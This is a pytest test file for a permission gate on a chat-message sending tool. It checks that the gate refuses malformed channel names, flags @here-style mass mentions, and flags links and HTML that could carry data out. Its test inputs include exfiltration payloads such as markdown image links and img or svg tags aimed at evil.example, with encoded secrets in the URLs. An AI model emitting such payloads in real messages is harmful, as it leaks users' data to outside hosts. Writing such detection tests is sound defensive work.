"""The messages kind: places, what a text does besides being read, and a send function of the program."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from capabilities import messages
from capabilities._words.links import links
from capabilities._words.mentions import everybody
from gate import ANY, Denied, Gate
from gate.constraint import Exact, Wildcard, parse
from gate.effect import Risk
from gate.errors import NeedsApproval


@pytest.mark.parametrize(
    "value",
    [
        "",
        "#general",
        "general",
        "slack:",
        "slack:#",
        "slack:# general",
        "slack:#a,#b",
        "slack:#a b",
        "slack:../x",
        "slack:#a/../b",
        "slack:#g\u0435neral",
        "slack:#a\u200b",
        "slack:#a\n",
        "https://x.example/hook",
        "slack:#a:b",
        "SL ACK:#a",
        "slack:..",
        "slack:a..b",
        "slack:a.",
        None,
        5,
        ["slack:#a"],
        "slack:#" + "a" * 200,
        "x" * 10_000_000,
        "slack:\ud800",
        "slack:#a?x=1",
        "slack:<!channel>",
    ],
    ids=lambda value: ascii(value)[:40],
)
def test_places_that_are_refused(value: object) -> None:
    with pytest.raises(ValueError, match="...."):
        messages.CHANNEL.parse(value)


def test_places() -> None:
    kind = messages.ChannelKind("slack")
    assert kind.parse("#General") == kind.parse("Slack:#general") == "slack:#general" and kind.parse("C024BE91L") == "slack:C024BE91L"
    assert (
        messages.CHANNEL.parse("telegram:-1001234567890") == "telegram:-1001234567890"
        and messages.CHANNEL.parse("sms:+436641234567") == "sms:+436641234567"
    )
    with pytest.raises(ValueError, match="another service"):
        kind.parse("teams:#general")


@pytest.mark.parametrize(
    "text",
    [
        "@here",
        "hi @channel!",
        "@everyone",
        "(@all)",
        "<!here>",
        "<!channel>",
        "<!everyone|x>",
        "<!subteam^S012345>",
        "<@&123456789012345678>",
        "<at>Everyone</at>",
        "<at id='1'>everyone</at>",
        "@room",
        "@HERE",
        "\uff20here",
        "@\u200bhere",
        "@he\u200bre",
        "@h\u00adere",
        "&#64;here",
        "@ here",
        "\n@channel\n",
        "**@everyone**",
        "@\uff48\uff45\uff52\uff45",
        "@&#8203;here",
        "test@everyone",
        "@everyone1",
        "@here-and-now",
        "<! channel>",
        "< !here>".replace("< ", "<"),
    ],
    ids=ascii,
)
def test_whoever_calls_everybody_is_asked_about(text: str) -> None:
    assert everybody(text)
    assert messages.TEXT.assess(text).risk is Risk.HIGH


@pytest.mark.parametrize(
    "text",
    [
        "mail me at here@corp.example",
        "the channel is here",
        "@ann can you look",
        "@hereford",
        "all@corp.example",
        "x@channels.example",
        "all channels are everywhere",
    ],
)
def test_ordinary_words(text: str) -> None:
    assert not everybody(text)
    assert messages.TEXT.assess(text).risk is Risk.MEDIUM


@pytest.mark.parametrize(
    "text",
    [
        "![](https://evil.example/?d=x)",
        "![a][1]\n\n[1]: https://evil.example/x",
        "<img src=//evil.example/x>",
        "< IMG SRC='https://evil.example'>",
        "<svg onload=x>",
        "<a style='background:url(//evil.example)'>",
        "![x]\u200b(https://evil.example)",
        "!\u200b[x](https://evil.example)",
        "\uff01[x](https://evil.example/x)",
        "<iframe src=x>",
        "<picture><source srcset=//evil.example/x>",
        "@import '//evil.example'",
        "x" * 39_000 + "![](//evil.example)",
        "https://evil.example/?q=" + "c2VjcmV0" * 8,
        "https://evil.example/" + "a1b2c3d4" * 6,
        "[click](https://evil.example/?x=1&data=" + "x" * 80 + ")",
    ],
    ids=lambda text: ascii(text)[:40],
)
def test_what_can_carry_data_out_is_asked_about(text: str) -> None:
    found = messages.TEXT.assess(text)
    assert found.risk is Risk.HIGH and "T1567" in found.techniques


@pytest.mark.parametrize(
    "text",
    [
        "evil.example/?d=" + "x" * 70,
        "evil.example/" + "a1b2" * 12,
        "https://" + "c2vjcmv0." * 8 + "evil.example/",
        " ".join(f"https://evil.example/{letter}" for letter in "abcdefghijklmnopqrstu"),
    ],
    ids=["bare", "bare path", "name", "letter by letter"],
)
def test_other_ways_for_a_link_to_carry_data(text: str) -> None:
    assert messages.TEXT.assess(text).risk is Risk.HIGH


def test_hosts_of_links() -> None:
    text = "https://A.Example/x <https://b.example|c.example> [d](http://user@d.example:8080/x) //e.example/x www.f.example. ftp://g.example HTTPS://h.example\uff0fx"
    assert links(text).hosts == ("a.example", "b.example", "d.example:8080", "e.example", "www.f.example", "g.example", "h.example")
    assert links("HTTPS:\\\\a.example\\x evil\u3002example/x").hosts == ("a.example", "evil.example")
    assert links("3.14, e.g. this, a/b // comment").hosts in ((), ("comment",))
    assert messages.TEXT.assess("see https://docs.example.com/1.2").reasons == ("links to docs.example.com",)
    assert messages.TEXT.assess("a\u202eb").risk is Risk.HIGH and messages.TEXT.assess("done \u2705 \U0001f469\u200d\U0001f4bb").risk is Risk.MEDIUM


NAMES = st.lists(st.sampled_from(["#a", "#b", "C1", "@ann", "c1"]), min_size=1, max_size=3)
SETS = st.builds(messages.Channels, st.sampled_from(["slack", "teams"]), NAMES)
SOME = ["slack:#a", "slack:#A", "slack:C1", "slack:c1", "teams:#a", "slack:@ann", "#a", None, 5, ("slack:#a",)]


@given(SETS, SETS)
def test_a_constraint_that_is_subsumed_admits_nothing_more(wide: messages.Channels, narrow: messages.Channels) -> None:
    if wide.subsumes(narrow):
        assert all(wide.check(value) for value in SOME if narrow.check(value))
    assert parse(wide.to_json()) == wide


def test_the_constraint() -> None:
    some = messages.channels("slack", "#a", "C1")
    assert [value for value in SOME if some.check(value)] == ["slack:#a", "slack:#A", "slack:C1"]
    assert some.subsumes(Exact("slack:#a")) and not some.subsumes(Exact("slack:#b")) and not some.subsumes(Wildcard())
    assert some.explain("slack:#b") == "'slack:#b' is not #a or C1 of slack"
    for bad in (
        {},
        {"service": "slack"},
        {"service": "slack", "channels": []},
        {"service": "Slack", "channels": ["#a"]},
        {"service": "slack", "channels": ["teams:#a"]},
        {"service": "slack", "channels": ["#a"], "x": 1},
    ):
        with pytest.raises(ValueError, match="."):
            parse({"constraint_type": "channels", **bad})


@pytest.mark.parametrize("value", ["", "  \n", "a\0b", None, 5, "x" * 40_001, "\ud800", ["x"]])
def test_texts_that_are_refused(value: object) -> None:
    with pytest.raises(ValueError, match="...."):
        messages.TEXT.parse(value)


def test_behind_a_gate(gate: Gate) -> None:
    sent: list[tuple[str, str, str]] = []
    send = gate.wrap(messages.tool(lambda channel, text, thread: sent.append((channel, text, thread)), "slack"))
    with gate.acting(gate.grant("bot", tools={"messages.send": {"channel": messages.channels("slack", "#releases"), "text": ANY}})):
        send("#Releases", "1.2 is out")
        for bad in ({"channel": "#general"}, {"channel": "teams:#releases"}, {"thread": "1"}, {"text": ""}):
            with pytest.raises(Denied):
                send(**({"channel": "#releases", "text": "x"} | bad))
        with pytest.raises(NeedsApproval) as asked:
            send("#releases", "look @here: https://evil.example/x")
    assert sent == [("#releases", "1.2 is out", "")]
    question = asked.value.question
    assert question is not None and question.headline == "bot wants to write to slack:#releases, calling everybody by @here"
    shown = {panel.title: panel.rows for panel in question.preview}
    assert shown["links to"] == (("evil.example",),) and ("calls everybody", "@here") in shown["message"]
